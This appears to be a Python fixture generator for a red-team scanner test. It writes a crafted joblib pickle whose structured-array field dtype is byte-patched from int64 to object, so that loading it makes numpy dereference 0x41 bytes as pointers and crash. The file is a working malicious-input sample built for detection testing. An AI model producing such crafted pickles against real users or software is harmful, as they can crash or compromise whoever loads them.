"""Writes the red-team samples TestRedteam5Samples scans.

Run with /usr/bin/python3 (Debian's joblib 1.2, numpy 1.24) from this
directory. joblib_object_field_flags0.pkl is real joblib.dump output of a
structured int64 array whose field dtype is then renamed 'O8' (its state
flags stay 0): numpy takes the flags as stated, so joblib.load reads the
array's raw bytes (0x41...) into an array whose field holds objects, and
reading an element dereferences them as pointers (a segfault).
"""
import io

import joblib
import numpy as np

a = np.zeros(2, dtype=[("a", "<i8")])
a["a"] = 0x4141414141414141
b = io.BytesIO()
joblib.dump(a, b, protocol=2)
d = b.getvalue()
assert d.count(b"\x8c\x02i8") == 1 or d.count(b"X\x02\x00\x00\x00i8") == 1
d = d.replace(b"\x8c\x02i8", b"\x8c\x02O8", 1).replace(b"X\x02\x00\x00\x00i8", b"X\x02\x00\x00\x00O8", 1)
with open("joblib_object_field_flags0.pkl", "wb") as f:
    f.write(d)
